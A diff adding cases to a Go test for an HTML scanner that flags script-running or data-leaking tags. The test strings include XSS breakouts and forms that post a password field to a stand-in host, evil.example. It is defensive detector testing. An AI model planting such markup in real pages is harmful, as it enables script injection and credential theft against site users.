@@ -22,6 +22,10 @@ func TestTagFindsScriptRunningTags(t *testing.T) {
 		{"end tag with attributes", "</a onclick=alert(1)>", 0, 0},
 		{"breakout then a script", "</script><script>alert(1)</script>", 9, 9},
 		{"link to a page", `<a href="/home">home</a>`, 0, 0},
+		{"form posting to another site", `<form action=//evil.example/login><input type=password name=p></form>`, 0, 7},
+		{"form posting to another site, quoted", `<form method="post" action="https://evil.example/x">`, 0, 7},
+		{"form posting to the page itself", `<form action="/login" method="post">`, 0, 0},
+		{"a button's formaction elsewhere", `<form data-action="https://x.example">`, 0, 0},
 		{"comparison", "a < b and c > d", 0, 0},
 	} {
 		t.Run(c.name, func(t *testing.T) {
